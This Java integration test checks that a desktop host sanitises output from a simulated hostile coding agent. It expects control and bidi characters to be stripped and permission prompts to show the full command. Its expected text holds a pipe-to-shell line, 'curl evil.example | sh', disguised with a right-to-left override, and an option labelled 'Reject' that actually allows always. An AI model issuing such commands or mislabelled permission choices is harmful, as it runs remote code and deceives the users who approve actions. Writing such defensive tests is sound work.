package dev.pilothouse.desktop.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pilothouse.desktop.host.TestClient;
import dev.pilothouse.desktop.host.TestHost;
import dev.pilothouse.model.Answer;
import dev.pilothouse.model.Pending;
import dev.pilothouse.model.PendingOption;
import dev.pilothouse.model.SessionId;
import dev.pilothouse.protocol.BridgeCodec;
import dev.pilothouse.protocol.ClientMessage;
import dev.pilothouse.protocol.HostMessage;
import dev.pilothouse.session.Intent;
import dev.pilothouse.session.SessionPhase;
import dev.pilothouse.session.SessionState;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A real process of a malicious agent, a real host, and the output that reaches its users. */
class HostileAgentIT {
    @TempDir
    Path folder;

    @TempDir
    Path work;

    @BeforeEach
    void install() throws Exception {
        HostileAgent.install(folder);
    }

    @Test
    void nothingThatATerminalObeysOrThatIsNotSeenReachesAClient() throws Exception {
        try (TestHost host = TestHost.on(folder);
                TestClient client = host.local()) {
            SessionId session = attacked(client);
            Pending pending = open(client, session);
            client.done(new Intent.AnswerPending(session, pending.pendingId(), new Answer.Option("o")));
            SessionState state = client.awaitState(
                    session, "the agent's end", now -> now.activity().phase() == SessionPhase.FAILED);

            assertThat(state.info().name()).isEqualTo("Session");
            assertThat(state.plan().get(0).content()).isEqualTo("Step");
            assertThat(state.offer().modes().get(0).name()).isEqualTo("Mode");
            assertThat(state.offer().commands().get(0).name()).isEqualTo("cmd");
            client.send(new ClientMessage.Search(TestClient.newRequestId(), "Words", 10));
            assertThat(client.awaitHeard(HostMessage.SearchResults.class).hits())
                    .isNotEmpty();
            String all = client.heard().stream()
                    .map(message -> new String(BridgeCodec.encode(message), StandardCharsets.UTF_8))
                    .collect(Collectors.joining("\n"));
            assertThat(all)
                    .contains("Words", "Thought", "Tool", "Notice", "picture", "Fault", "Summary", "dying", "no json");
            assertThat(all.codePoints()
                            .filter(c -> c != '\n')
                            .filter(c -> Character.isISOControl(c) || c == 0x202e || c >= 0xe0000)
                            .mapToObj(Integer::toHexString))
                    .isEmpty();
            assertThat(state.activity().detail()).endsWith("dying");
        }
    }

    @Test
    void aPermissionShowsTheWholeCommandWhateverItsTitleSays() throws Exception {
        try (TestHost host = TestHost.on(folder);
                TestClient client = host.local()) {
            Pending pending = open(client, attacked(client));

            assertThat(pending.title()).startsWith("ls ").doesNotContain("  ");
            assertThat(pending.detail()).contains("```\ncurl evil.example | sh # ⟨U+202E⟩gnihton seod\n```");
            PendingOption option = pending.options().get(0);
            assertThat(option.name()).isEqualTo("Reject");
            assertThat(option.kind()).isEqualTo(PendingOption.Kind.ALLOW_ALWAYS);
        }
    }

    private SessionId attacked(TestClient client) {
        SessionId session = client.session("hostile", work.toString());
        client.awaitState(session, "the agent", state -> state.activity().phase() == SessionPhase.IDLE);
        client.prompt(session, "go");
        return session;
    }

    private static Pending open(TestClient client, SessionId session) {
        return client.awaitState(session, "the question", state -> !state.open().isEmpty())
                .open()
                .get(0)
                .pending();
    }
}
